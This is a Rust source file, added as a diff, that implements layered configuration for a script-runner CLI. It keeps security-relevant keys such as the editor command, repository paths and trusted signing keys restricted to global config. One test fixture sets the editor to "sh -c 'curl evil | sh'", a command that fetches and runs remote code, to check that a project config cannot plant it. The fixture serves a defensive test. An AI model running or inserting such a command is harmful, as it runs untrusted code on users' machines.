@@ -0,0 +1,974 @@
+use crate::{
+    core::{history::Retention, repo::PROJECT_DIR, signing::parse_public_key},
+    utils::{
+        duration::parse_duration,
+        fs::{get_config_path, get_data_home, get_signing_key_path},
+        size::parse_size,
+    },
+};
+use anyhow::{Context, Result, anyhow, bail};
+use clap::ValueEnum;
+use serde::{Deserialize, Serialize};
+use std::{
+    collections::BTreeMap,
+    env, fmt, fs,
+    io::{self, IsTerminal},
+    path::{Path, PathBuf},
+};
+
+/// 项目配置文件名，位于项目的 `.rune/` 目录下
+pub const PROJECT_CONFIG: &str = "config.toml";
+
+/// 可以通过 `rune config set` 修改的键（`plugins.defaults.<ext>` 除外）
+pub const KEYS: &[&str] = &[
+    "editor",
+    "repos.user",
+    "plugins.dir",
+    "confirm.remove",
+    "confirm.overwrite",
+    "output.format",
+    "output.color",
+    "history.enabled",
+    "history.max_entries",
+    "history.max_age",
+    "logs.enabled",
+    "logs.max_size",
+    "logs.max_files",
+    "signing.key",
+];
+
+/// 只能在全局配置中设置的键
+///
+/// 项目配置随仓库而来，不能改变哪些脚本被视为用户自己的（`repos`）、
+/// 信任记录和插件数据库的位置（`plugins.dir`）、编辑脚本时执行的命令（`editor`），
+/// 也不能决定信任哪些签名
+pub const GLOBAL_ONLY: &[&str] = &[
+    "editor",
+    "repos.user",
+    "repos.shared",
+    "plugins.dir",
+    "signing",
+];
+
+/// rune 配置
+///
+/// 按以下顺序合并，后者覆盖前者：默认值、全局配置文件
+/// （`~/.config/rune/config.toml` 或 `RUNE_CONFIG`）、项目配置文件
+/// （从当前目录向上找到的 `.rune/config.toml`）、环境变量
+#[derive(Debug, Default, Clone, PartialEq, Serialize, Deserialize)]
+#[serde(deny_unknown_fields)]
+pub struct Config {
+    /// 编辑脚本使用的编辑器，可以带参数（如 `code --wait`）
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub editor: Option<String>,
+    /// 脚本仓库设置
+    #[serde(default)]
+    pub repos: RepoConfig,
+    /// 插件设置
+    #[serde(default)]
+    pub plugins: PluginConfig,
+    /// 确认提示设置
+    #[serde(default)]
+    pub confirm: ConfirmConfig,
+    /// 输出设置
+    #[serde(default)]
+    pub output: OutputConfig,
+    /// 运行历史设置
+    #[serde(default)]
+    pub history: HistoryConfig,
+    /// 输出日志设置
+    #[serde(default)]
+    pub logs: LogsConfig,
+    /// 签名设置，只能在全局配置中设置
+    #[serde(default)]
+    pub signing: SigningConfig,
+}
+
+/// 脚本仓库设置
+#[derive(Debug, Default, Clone, PartialEq, Serialize, Deserialize)]
+#[serde(deny_unknown_fields)]
+pub struct RepoConfig {
+    /// 用户仓库目录，默认为数据目录下的 scripts
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub user: Option<PathBuf>,
+    /// 只读的共享仓库，按优先级从高到低排列
+    #[serde(default)]
+    pub shared: Vec<SharedRepo>,
+}
+
+/// 共享仓库
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+#[serde(deny_unknown_fields)]
+pub struct SharedRepo {
+    /// 仓库目录，支持 `~/` 开头
+    pub path: PathBuf,
+    /// 仓库名称，用于 `--repo`；默认为目录名
+    #[serde(default)]
+    pub name: Option<String>,
+}
+
+/// 插件设置
+#[derive(Debug, Default, Clone, PartialEq, Serialize, Deserialize)]
+#[serde(deny_unknown_fields)]
+pub struct PluginConfig {
+    /// 插件目录，默认为数据目录下的 plugin
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub dir: Option<PathBuf>,
+    /// 扩展名 -> 默认插件名称，优先于 `rune plugin default` 记住的选择
+    #[serde(default)]
+    pub defaults: BTreeMap<String, String>,
+}
+
+/// 确认提示设置
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(deny_unknown_fields)]
+pub struct ConfirmConfig {
+    /// 删除脚本或插件前是否确认
+    #[serde(default = "default_true")]
+    pub remove: bool,
+    /// 覆盖已存在的脚本或插件前是否确认
+    #[serde(default = "default_true")]
+    pub overwrite: bool,
+}
+
+impl Default for ConfirmConfig {
+    fn default() -> Self {
+        Self {
+            remove: true,
+            overwrite: true,
+        }
+    }
+}
+
+/// 输出设置
+#[derive(Debug, Default, Clone, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(deny_unknown_fields)]
+pub struct OutputConfig {
+    /// 列表命令的默认输出格式
+    #[serde(default)]
+    pub format: OutputFormat,
+    /// 是否输出颜色
+    #[serde(default)]
+    pub color: ColorMode,
+}
+
+/// 运行历史设置
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(deny_unknown_fields)]
+pub struct HistoryConfig {
+    /// 是否记录运行历史
+    #[serde(default = "default_true")]
+    pub enabled: bool,
+    /// 最多保留的记录数，0 表示不限制
+    #[serde(default = "default_max_entries")]
+    pub max_entries: usize,
+    /// 最长保留时间（如 `90d`），未设置时不限制
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub max_age: Option<String>,
+}
+
+impl Default for HistoryConfig {
+    fn default() -> Self {
+        Self {
+            enabled: true,
+            max_entries: default_max_entries(),
+            max_age: None,
+        }
+    }
+}
+
+impl HistoryConfig {
+    /// 保留策略
+    pub fn retention(&self) -> Result<Retention> {
+        let max_age = self
+            .max_age
+            .as_deref()
+            .map(parse_duration)
+            .transpose()
+            .context("Invalid 'history.max_age'")?;
+        Ok(Retention {
+            max_entries: self.max_entries,
+            max_age: max_age.map(|d| d.as_secs()),
+        })
+    }
+}
+
+/// 输出日志设置
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(deny_unknown_fields)]
+pub struct LogsConfig {
+    /// 是否默认把脚本输出同时写入日志文件
+    #[serde(default)]
+    pub enabled: bool,
+    /// 单个日志文件的大小上限（如 `10M`），超过后轮转为 `<file>.1`
+    #[serde(default = "default_log_max_size")]
+    pub max_size: String,
+    /// 最多保留的运行日志数，0 表示不限制
+    #[serde(default = "default_log_max_files")]
+    pub max_files: usize,
+}
+
+impl Default for LogsConfig {
+    fn default() -> Self {
+        Self {
+            enabled: false,
+            max_size: default_log_max_size(),
+            max_files: default_log_max_files(),
+        }
+    }
+}
+
+impl LogsConfig {
+    /// 单个日志文件的大小上限（字节）
+    pub fn max_size(&self) -> Result<u64> {
+        let size = parse_size(&self.max_size).context("Invalid 'logs.max_size'")?;
+        if size == 0 {
+            bail!("Invalid 'logs.max_size': must be greater than zero");
+        }
+        Ok(size)
+    }
+}
+
+/// 签名设置
+#[derive(Debug, Default, Clone, PartialEq, Eq, Serialize, Deserialize)]
+#[serde(deny_unknown_fields)]
+pub struct SigningConfig {
+    /// `rune sign` 使用的私钥文件，默认为配置目录下的 signing.key
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub key: Option<PathBuf>,
+    /// 受信任的公钥，名称 -> 十六进制公钥
+    ///
+    /// 非空时，运行项目仓库和共享仓库中的脚本、添加插件前都要验证签名
+    #[serde(default)]
+    pub trusted_keys: BTreeMap<String, String>,
+}
+
+impl SigningConfig {
+    /// 是否要求验证签名
+    pub fn enforced(&self) -> bool {
+        !self.trusted_keys.is_empty()
+    }
+
+    /// 私钥文件路径
+    pub fn key_path(&self) -> Result<PathBuf> {
+        match &self.key {
+            Some(path) => Ok(expand_home(path)),
+            None => get_signing_key_path(),
+        }
+    }
+
+    /// 检查公钥格式
+    pub fn check(&self) -> Result<()> {
+        for (name, key) in &self.trusted_keys {
+            parse_public_key(key)
+                .with_context(|| format!("Invalid 'signing.trusted_keys.{}'", name))?;
+        }
+        Ok(())
+    }
+}
+
+/// 列表输出格式
+#[derive(Debug, Default, Clone, Copy, PartialEq, Eq, Serialize, Deserialize, ValueEnum)]
+#[serde(rename_all = "lowercase")]
+pub enum OutputFormat {
+    /// 表格
+    #[default]
+    Table,
+    /// 每行一个名称
+    Plain,
+    /// 按命名空间分组的树（只用于脚本列表）
+    Tree,
+}
+
+/// 颜色输出模式
+#[derive(Debug, Default, Clone, Copy, PartialEq, Eq, Serialize, Deserialize, ValueEnum)]
+#[serde(rename_all = "lowercase")]
+pub enum ColorMode {
+    /// 输出到终端时使用颜色
+    #[default]
+    Auto,
+    /// 总是使用颜色
+    Always,
+    /// 从不使用颜色
+    Never,
+}
+
+impl ColorMode {
+    /// 当前环境下是否输出颜色
+    pub fn enabled(self) -> bool {
+        match self {
+            ColorMode::Auto => io::stdout().is_terminal() && io::stderr().is_terminal(),
+            ColorMode::Always => true,
+            ColorMode::Never => false,
+        }
+    }
+}
+
+impl fmt::Display for OutputFormat {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        match self {
+            OutputFormat::Table => write!(f, "table"),
+            OutputFormat::Plain => write!(f, "plain"),
+            OutputFormat::Tree => write!(f, "tree"),
+        }
+    }
+}
+
+impl fmt::Display for ColorMode {
+    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
+        match self {
+            ColorMode::Auto => write!(f, "auto"),
+            ColorMode::Always => write!(f, "always"),
+            ColorMode::Never => write!(f, "never"),
+        }
+    }
+}
+
+fn default_true() -> bool {
+    true
+}
+
+fn default_max_entries() -> usize {
+    1000
+}
+
+fn default_log_max_size() -> String {
+    "10M".to_string()
+}
+
+fn default_log_max_files() -> usize {
+    100
+}
+
+impl SharedRepo {
+    /// 仓库名称
+    pub fn name(&self) -> String {
+        self.name.clone().unwrap_or_else(|| {
+            self.path
+                .file_name()
+                .map(|n| n.to_string_lossy().into_owned())
+                .unwrap_or_else(|| "shared".to_string())
+        })
+    }
+
+    /// 展开 `~/` 后的仓库目录
+    pub fn expanded_path(&self) -> PathBuf {
+        expand_home(&self.path)
+    }
+}
+
+/// 展开路径开头的 `~/`
+pub fn expand_home(path: &Path) -> PathBuf {
+    match (path.strip_prefix("~"), env::var_os("HOME")) {
+        (Ok(rest), Some(home)) => PathBuf::from(home).join(rest),
+        _ => path.to_path_buf(),
+    }
+}
+
+/// 从 `start` 向上查找项目配置文件
+pub fn find_project_config(start: &Path) -> Option<PathBuf> {
+    start
+        .ancestors()
+        .map(|dir| dir.join(PROJECT_DIR).join(PROJECT_CONFIG))
+        .find(|candidate| candidate.is_file())
+}
+
+/// `rune config set --project` 写入的文件
+///
+/// 已有项目配置文件时使用该文件，否则使用向上找到的第一个 `.rune` 目录
+pub fn project_config_target(start: &Path) -> Result<PathBuf> {
+    find_project_config(start)
+        .or_else(|| {
+            start
+                .ancestors()
+                .map(|dir| dir.join(PROJECT_DIR))
+                .find(|candidate| candidate.is_dir())
+                .map(|dir| dir.join(PROJECT_CONFIG))
+        })
+        .ok_or_else(|| {
+            anyhow!(
+                "No project found (create a '{}' directory in your project)",
+                PROJECT_DIR
+            )
+        })
+}
+
+impl Config {
+    /// 从默认位置加载配置并应用环境变量覆盖
+    pub fn load() -> Result<Self> {
+        let project = env::current_dir()
+            .ok()
+            .and_then(|cwd| find_project_config(&cwd));
+        let mut config = Self::load_layers(&get_config_path()?, project.as_deref())?;
+        config.apply_env(|key| env::var(key).ok())?;
+        Ok(config)
+    }
+
+    /// 从指定文件加载配置，文件不存在时返回默认配置
+    pub fn load_from(path: &Path) -> Result<Self> {
+        Self::load_layers(path, None)
+    }
+
+    /// 加载全局配置，并用项目配置覆盖
+    ///
+    /// 表逐键合并，其他值（包括数组）整体替换
+    pub fn load_layers(global: &Path, project: Option<&Path>) -> Result<Self> {
+        let mut merged = read_table(global)?;
+        if let Some(project) = project {
+            let table = read_table(project)?;
+            if let Some(key) = GLOBAL_ONLY.iter().find(|key| table_contains(&table, key)) {
+                bail!(
+                    "Failed to parse config: {}: '{}' can only be set in the global config",
+                    project.display(),
+                    key
+                );
+            }
+            merge_tables(&mut merged, table);
+        }
+        toml::Value::Table(merged)
+            .try_into()
+            .context("Failed to merge config files")
+    }
+
+    /// 检查无法通过类型表达的约束
+    pub fn check(&self) -> Result<()> {
+        self.history.retention()?;
+        self.logs.max_size()?;
+        self.signing.check()?;
+        Ok(())
+    }
+
+    /// 应用环境变量覆盖
+    ///
+    /// `lookup` 返回环境变量的值，便于测试时替换
+    pub fn apply_env(&mut self, lookup: impl Fn(&str) -> Option<String>) -> Result<()> {
+        if let Some(repo) = lookup("RUNE_REPO") {
+            self.repos.user = Some(PathBuf::from(repo));
+        }
+        if let Some(dir) = lookup("RUNE_PLUGIN") {
+            self.plugins.dir = Some(PathBuf::from(dir));
+        }
+        if let Some(editor) = lookup("RUNE_EDITOR") {
+            self.editor = Some(editor);
+        }
+        if let Some(format) = lookup("RUNE_OUTPUT") {
+            self.output.format = OutputFormat::from_str(&format, true)
+                .map_err(|e| anyhow!("Invalid RUNE_OUTPUT: {}", e))?;
+        }
+        if let Some(color) = lookup("RUNE_COLOR") {
+            self.output.color = ColorMode::from_str(&color, true)
+                .map_err(|e| anyhow!("Invalid RUNE_COLOR: {}", e))?;
+        } else if lookup("NO_COLOR").is_some_and(|v| !v.is_empty()) {
+            self.output.color = ColorMode::Never;
+        }
+        if lookup("RUNE_NO_HISTORY").is_some_and(|v| !v.is_empty()) {
+            self.history.enabled = false;
+        }
+        Ok(())
+    }
+
+    /// 用户仓库目录
+    pub fn script_path(&self) -> Result<PathBuf> {
+        match &self.repos.user {
+            Some(path) => Ok(expand_home(path)),
+            None => Ok(get_data_home()?.join("scripts")),
+        }
+    }
+
+    /// 插件目录
+    pub fn plugin_path(&self) -> Result<PathBuf> {
+        match &self.plugins.dir {
+            Some(path) => Ok(expand_home(path)),
+            None => Ok(get_data_home()?.join("plugin")),
+        }
+    }
+
+    /// 编辑器命令
+    ///
+    /// 依次使用配置、`VISUAL`、`EDITOR`，都未设置时使用 nano（Windows 上为 notepad）
+    pub fn editor(&self) -> String {
+        self.editor
+            .clone()
+            .or_else(|| env::var("VISUAL").ok())
+            .or_else(|| env::var("EDITOR").ok())
+            .filter(|editor| !editor.trim().is_empty())
+            .unwrap_or_else(|| {
+                if cfg!(windows) {
+                    String::from("notepad")
+                } else {
+                    String::from("nano")
+                }
+            })
+    }
+
+    /// 扩展名的默认插件
+    pub fn default_plugin(&self, extension: &str) -> Option<&str> {
+        self.plugins.defaults.get(extension).map(String::as_str)
+    }
+
+    /// 所有生效的配置项，键为点分路径，按字母顺序排列
+    pub fn entries(&self) -> Result<Vec<(String, String)>> {
+        let mut entries = vec![
+            ("editor".to_string(), self.editor()),
+            (
+                "repos.user".to_string(),
+                self.script_path()?.display().to_string(),
+            ),
+            (
+                "plugins.dir".to_string(),
+                self.plugin_path()?.display().to_string(),
+            ),
+            (
+                "confirm.remove".to_string(),
+                self.confirm.remove.to_string(),
+            ),
+            (
+                "confirm.overwrite".to_string(),
+                self.confirm.overwrite.to_string(),
+            ),
+            ("output.format".to_string(), self.output.format.to_string()),
+            ("output.color".to_string(), self.output.color.to_string()),
+            (
+                "history.enabled".to_string(),
+                self.history.enabled.to_string(),
+            ),
+            (
+                "history.max_entries".to_string(),
+                self.history.max_entries.to_string(),
+            ),
+        ];
+        if let Some(max_age) = &self.history.max_age {
+            entries.push(("history.max_age".to_string(), max_age.clone()));
+        }
+        entries.push(("logs.enabled".to_string(), self.logs.enabled.to_string()));
+        entries.push(("logs.max_size".to_string(), self.logs.max_size.clone()));
+        entries.push((
+            "logs.max_files".to_string(),
+            self.logs.max_files.to_string(),
+        ));
+        entries.push((
+            "signing.key".to_string(),
+            self.signing.key_path()?.display().to_string(),
+        ));
+        for (name, key) in &self.signing.trusted_keys {
+            entries.push((format!("signing.trusted_keys.{}", name), key.clone()));
+        }
+        for (extension, plugin) in &self.plugins.defaults {
+            entries.push((format!("plugins.defaults.{}", extension), plugin.clone()));
+        }
+        for (i, repo) in self.repos.shared.iter().enumerate() {
+            entries.push((
+                format!("repos.shared.{}", i),
+                format!("{} ({})", repo.name(), repo.expanded_path().display()),
+            ));
+        }
+        entries.sort();
+        Ok(entries)
+    }
+
+    /// 获取生效的配置项
+    ///
+    /// # 错误
+    /// 键不存在或未设置时返回错误
+    pub fn get(&self, key: &str) -> Result<String> {
+        check_key(key)?;
+        self.entries()?
+            .into_iter()
+            .find(|(k, _)| k == key)
+            .map(|(_, v)| v)
+            .ok_or_else(|| anyhow!("Config key '{}' is not set", key))
+    }
+}
+
+/// 修改配置文件中的一项，`value` 为 None 时删除该项
+///
+/// 保留文件中的注释和格式；写入前验证修改后的文件仍然有效
+pub fn set_value(path: &Path, key: &str, value: Option<&str>) -> Result<()> {
+    check_key(key)?;
+    let content = if path.exists() {
+        fs::read_to_string(path)
+            .with_context(|| format!("Failed to read config: {}", path.display()))?
+    } else {
+        String::new()
+    };
+    let mut doc: toml_edit::DocumentMut = content
+        .parse()
+        .with_context(|| format!("Failed to parse config: {}", path.display()))?;
+
+    let parts: Vec<&str> = key.split('.').collect();
+    let (last, parents) = parts.split_last().context("Empty config key")?;
+    match value {
+        Some(value) => {
+            let mut table = doc.as_table_mut();
+            for part in parents {
+                // 只有中间层的表不单独输出表头，如 `[plugins.defaults]` 不会产生空的 `[plugins]`
+                let entry = table.entry(part).or_insert_with(|| {
+                    let mut table = toml_edit::Table::new();
+                    table.set_implicit(true);
+                    toml_edit::Item::Table(table)
+                });
+                table = entry
+                    .as_table_mut()
+                    .ok_or_else(|| anyhow!("'{}' in {} is not a table", part, path.display()))?;
+            }
+            table.insert(last, toml_edit::value(parse_value(key, value)?));
+        }
+        None => {
+            let mut table = doc.as_table_mut();
+            for part in parents {
+                table = table
+                    .get_mut(part)
+                    .and_then(toml_edit::Item::as_table_mut)
+                    .ok_or_else(|| {
+                        anyhow!("Config key '{}' is not set in {}", key, path.display())
+                    })?;
+            }
+            if table.remove(last).is_none() {
+                bail!("Config key '{}' is not set in {}", key, path.display());
+            }
+        }
+    }
+
+    let content = doc.to_string();
+    toml::from_str::<Config>(&content)
+        .map_err(|e| anyhow!("Invalid value for '{}': {}", key, e.message()))?
+        .check()
+        .with_context(|| format!("Invalid value for '{}'", key))?;
+    if let Some(parent) = path.parent() {
+        fs::create_dir_all(parent)
+            .with_context(|| format!("Failed to create directory: {}", parent.display()))?;
+    }
+    fs::write(path, content).with_context(|| format!("Failed to write config: {}", path.display()))
+}
+
+/// 检查键是否可以读写
+fn check_key(key: &str) -> Result<()> {
+    if KEYS.contains(&key) {
+        return Ok(());
+    }
+    if let Some(extension) = key.strip_prefix("plugins.defaults.") {
+        if extension.is_empty() || extension.contains('.') {
+            bail!("Invalid extension in config key '{}'", key);
+        }
+        return Ok(());
+    }
+    if let Some(name) = key.strip_prefix("signing.trusted_keys.") {
+        if name.is_empty() || name.contains('.') {
+            bail!("Invalid key name in config key '{}'", key);
+        }
+        return Ok(());
+    }
+    if key == "repos.shared" || key.starts_with("repos.shared.") {
+        bail!(
+            "'repos.shared' is a list of tables; edit the config file directly (see 'rune config path')"
+        );
+    }
+    bail!(
+        "Unknown config key '{}' (available: {}, plugins.defaults.<ext>, signing.trusted_keys.<name>)",
+        key,
+        KEYS.join(", ")
+    )
+}
+
+/// 将命令行中的值转换为对应类型的 TOML 值
+fn parse_value(key: &str, value: &str) -> Result<toml_edit::Value> {
+    if key == "history.max_entries" || key == "logs.max_files" {
+        let value: i64 = value
+            .parse()
+            .ok()
+            .filter(|v| *v >= 0)
+            .ok_or_else(|| anyhow!("Invalid value for '{}': expected a number", key))?;
+        return Ok(value.into());
+    }
+    if key.starts_with("confirm.") || key == "history.enabled" || key == "logs.enabled" {
+        let value: bool = value
+            .parse()
+            .map_err(|_| anyhow!("Invalid value for '{}': expected true or false", key))?;
+        return Ok(value.into());
+    }
+    Ok(value.into())
+}
+
+/// 读取配置文件为 TOML 表，文件不存在时返回空表
+///
+/// 每个文件单独验证，错误信息中包含出错的文件
+fn read_table(path: &Path) -> Result<toml::Table> {
+    if !path.exists() {
+        return Ok(toml::Table::new());
+    }
+    let content = fs::read_to_string(path)
+        .with_context(|| format!("Failed to read config: {}", path.display()))?;
+    let table: toml::Table = toml::from_str(&content)
+        .with_context(|| format!("Failed to parse config: {}", path.display()))?;
+    toml::Value::Table(table.clone())
+        .try_into::<Config>()
+        .map_err(anyhow::Error::from)
+        .and_then(|config| config.check())
+        .with_context(|| format!("Failed to parse config: {}", path.display()))?;
+    Ok(table)
+}
+
+/// 检查是否可以写入项目配置
+pub fn check_project_key(key: &str) -> Result<()> {
+    if let Some(global) = GLOBAL_ONLY
+        .iter()
+        .find(|global| key == **global || key.starts_with(&format!("{}.", global)))
+    {
+        bail!("'{}' can only be set in the global config", global);
+    }
+    Ok(())
+}
+
+/// 表中是否包含点分路径的键
+fn table_contains(table: &toml::Table, key: &str) -> bool {
+    let mut table = table;
+    let mut parts = key.split('.').peekable();
+    while let Some(part) = parts.next() {
+        match (table.get(part), parts.peek()) {
+            (None, _) => return false,
+            (Some(_), None) => return true,
+            (Some(toml::Value::Table(inner)), Some(_)) => table = inner,
+            (Some(_), Some(_)) => return false,
+        }
+    }
+    false
+}
+
+/// 将 `overlay` 合并到 `base`
+fn merge_tables(base: &mut toml::Table, overlay: toml::Table) {
+    for (key, value) in overlay {
+        match (base.get_mut(&key), value) {
+            (Some(toml::Value::Table(base)), toml::Value::Table(overlay)) => {
+                merge_tables(base, overlay)
+            }
+            (_, value) => {
+                base.insert(key, value);
+            }
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use tempfile::TempDir;
+
+    #[test]
+    fn test_config_missing_file_is_default() {
+        let temp_dir = TempDir::new().unwrap();
+        let config = Config::load_from(&temp_dir.path().join("config.toml")).unwrap();
+
+        assert_eq!(config, Config::default());
+        assert!(config.confirm.remove);
+        assert_eq!(config.output.format, OutputFormat::Table);
+    }
+
+    #[test]
+    fn test_config_shared_repos() {
+        let temp_dir = TempDir::new().unwrap();
+        let path = temp_dir.path().join("config.toml");
+        fs::write(
+            &path,
+            r#"
+[[repos.shared]]
+path = "/srv/rune/team-scripts"
+
+[[repos.shared]]
+name = "ops"
+path = "/opt/ops"
+"#,
+        )
+        .unwrap();
+
+        let config = Config::load_from(&path).unwrap();
+        assert_eq!(config.repos.shared.len(), 2);
+        assert_eq!(config.repos.shared[0].name(), "team-scripts");
+        assert_eq!(config.repos.shared[1].name(), "ops");
+    }
+
+    #[test]
+    fn test_config_unknown_field_rejected() {
+        let temp_dir = TempDir::new().unwrap();
+        let path = temp_dir.path().join("config.toml");
+        fs::write(&path, "[repos]\nshard = []\n").unwrap();
+
+        let err = format!("{:#}", Config::load_from(&path).unwrap_err());
+        assert!(err.contains("config.toml"));
+    }
+
+    #[test]
+    fn test_config_project_overrides_global() {
+        let temp_dir = TempDir::new().unwrap();
+        let global = temp_dir.path().join("global.toml");
+        let project = temp_dir.path().join("project.toml");
+        fs::write(
+            &global,
+            r#"
+editor = "vim"
+
+[plugins.defaults]
+py = "python"
+ts = "deno"
+
+[output]
+format = "plain"
+"#,
+        )
+        .unwrap();
+        fs::write(
+            &project,
+            r#"
+[plugins.defaults]
+py = "python-uv"
+
+[confirm]
+remove = false
+"#,
+        )
+        .unwrap();
+
+        let config = Config::load_layers(&global, Some(&project)).unwrap();
+        assert_eq!(config.editor.as_deref(), Some("vim"));
+        assert_eq!(config.default_plugin("py"), Some("python-uv"));
+        assert_eq!(config.default_plugin("ts"), Some("deno"));
+        assert_eq!(config.output.format, OutputFormat::Plain);
+        assert!(!config.confirm.remove);
+        assert!(config.confirm.overwrite);
+    }
+
+    #[test]
+    fn test_config_env_overrides() {
+        let mut config = Config {
+            editor: Some("vim".to_string()),
+            ..Config::default()
+        };
+        config
+            .apply_env(|key| match key {
+                "RUNE_REPO" => Some("/tmp/scripts".to_string()),
+                "RUNE_EDITOR" => Some("code --wait".to_string()),
+                "RUNE_OUTPUT" => Some("tree".to_string()),
+                "NO_COLOR" => Some("1".to_string()),
+                _ => None,
+            })
+            .unwrap();
+
+        assert_eq!(config.script_path().unwrap(), PathBuf::from("/tmp/scripts"));
+        assert_eq!(config.editor(), "code --wait");
+        assert_eq!(config.output.format, OutputFormat::Tree);
+        assert_eq!(config.output.color, ColorMode::Never);
+
+        let err = config.apply_env(|key| (key == "RUNE_COLOR").then(|| "rainbow".to_string()));
+        assert!(err.is_err());
+    }
+
+    #[test]
+    fn test_config_set_preserves_comments() {
+        let temp_dir = TempDir::new().unwrap();
+        let path = temp_dir.path().join("rune").join("config.toml");
+
+        set_value(&path, "editor", Some("vim")).unwrap();
+        let content = fs::read_to_string(&path).unwrap();
+        fs::write(&path, format!("# my settings\n{}", content)).unwrap();
+
+        set_value(&path, "confirm.remove", Some("false")).unwrap();
+        set_value(&path, "plugins.defaults.py", Some("python-uv")).unwrap();
+        let content = fs::read_to_string(&path).unwrap();
+        assert!(content.starts_with("# my settings\n"));
+
+        let config = Config::load_from(&path).unwrap();
+        assert_eq!(config.get("editor").unwrap(), "vim");
+        assert_eq!(config.get("confirm.remove").unwrap(), "false");
+        assert_eq!(config.get("plugins.defaults.py").unwrap(), "python-uv");
+
+        set_value(&path, "editor", None).unwrap();
+        assert!(Config::load_from(&path).unwrap().editor.is_none());
+        assert!(set_value(&path, "editor", None).is_err());
+    }
+
+    #[test]
+    fn test_config_set_rejects_invalid_values() {
+        let temp_dir = TempDir::new().unwrap();
+        let path = temp_dir.path().join("config.toml");
+
+        assert!(set_value(&path, "output.format", Some("json")).is_err());
+        assert!(set_value(&path, "confirm.remove", Some("maybe")).is_err());
+        assert!(set_value(&path, "colour", Some("never")).is_err());
+        assert!(set_value(&path, "repos.shared", Some("/srv")).is_err());
+        assert!(set_value(&path, "logs.max_size", Some("huge")).is_err());
+        assert!(set_value(&path, "logs.max_size", Some("0")).is_err());
+        assert!(!path.exists());
+
+        set_value(&path, "output.color", Some("never")).unwrap();
+        let config = Config::load_from(&path).unwrap();
+        assert_eq!(config.output.color, ColorMode::Never);
+    }
+
+    #[test]
+    fn test_config_signing_is_global_only() {
+        let temp_dir = TempDir::new().unwrap();
+        let global = temp_dir.path().join("global.toml");
+        let project = temp_dir.path().join("project.toml");
+        let key = "d75a980182b10ab7d54bfed3c964073a0ee172f3daa62325af021a68f707511a";
+
+        set_value(&global, "signing.trusted_keys.alice", Some(key)).unwrap();
+        assert!(set_value(&global, "signing.trusted_keys.bob", Some("abcd")).is_err());
+        let config = Config::load_from(&global).unwrap();
+        assert!(config.signing.enforced());
+        assert_eq!(config.get("signing.trusted_keys.alice").unwrap(), key);
+
+        fs::write(&project, "[signing.trusted_keys]\nmallory = \"00\"\n").unwrap();
+        let err = format!("{:#}", Config::load_layers(&global, Some(&project)).unwrap_err());
+        assert!(err.contains("project.toml"));
+        fs::write(
+            &project,
+            format!("[signing.trusted_keys]\nmallory = \"{}\"\n", key),
+        )
+        .unwrap();
+        let err = format!("{:#}", Config::load_layers(&global, Some(&project)).unwrap_err());
+        assert!(err.contains("global config"));
+    }
+
+    #[test]
+    fn test_config_project_cannot_claim_user_repo() {
+        let temp_dir = TempDir::new().unwrap();
+        let global = temp_dir.path().join("global.toml");
+        let project = temp_dir.path().join("project.toml");
+        fs::write(&global, "[repos]\nuser = \"~/scripts\"\n").unwrap();
+
+        // 项目脚本不能通过把自己声明为用户仓库而免于信任检查
+        for content in [
+            "[repos]\nuser = \"tools\"\n",
+            "[[repos.shared]]\npath = \"tools\"\n",
+            "[plugins]\ndir = \"plugin\"\n",
+            "editor = \"sh -c 'curl evil | sh'\"\n",
+        ] {
+            fs::write(&project, content).unwrap();
+            let err = format!("{:#}", Config::load_layers(&global, Some(&project)).unwrap_err());
+            assert!(err.contains("global config"), "{}", content);
+        }
+
+        fs::write(&project, "[plugins.defaults]\npy = \"python-uv\"\n").unwrap();
+        let config = Config::load_layers(&global, Some(&project)).unwrap();
+        assert_eq!(config.script_path().unwrap(), expand_home(Path::new("~/scripts")));
+
+        assert!(check_project_key("repos.user").is_err());
+        assert!(check_project_key("signing.trusted_keys.alice").is_err());
+        assert!(check_project_key("editor").is_err());
+        assert!(check_project_key("plugins.defaults.py").is_ok());
+    }
+
+    #[test]
+    fn test_find_project_config() {
+        let temp_dir = TempDir::new().unwrap();
+        let nested = temp_dir.path().join("src/module");
+        fs::create_dir_all(&nested).unwrap();
+        fs::create_dir_all(temp_dir.path().join(PROJECT_DIR)).unwrap();
+
+        assert_eq!(find_project_config(&nested), None);
+        let target = project_config_target(&nested).unwrap();
+        assert_eq!(target, temp_dir.path().join(".rune/config.toml"));
+
+        fs::write(&target, "editor = \"vi\"\n").unwrap();
+        assert_eq!(find_project_config(&nested), Some(target));
+    }
+}